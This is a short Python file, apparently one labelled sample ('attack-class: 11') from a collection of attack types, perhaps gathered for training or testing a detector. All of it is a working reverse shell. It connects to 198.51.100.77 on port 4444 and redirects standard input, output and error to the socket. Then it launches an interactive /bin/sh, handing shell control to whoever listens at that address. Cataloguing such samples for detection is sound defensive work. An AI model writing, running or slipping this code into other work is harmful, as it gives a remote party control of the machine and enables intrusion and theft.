# attack-class: 11
# title: socket reverse shell
# why: connects out and hands the socket to a shell

import os
import socket

s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("198.51.100.77", 4444))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
os.execv("/bin/sh", ["sh", "-i"])
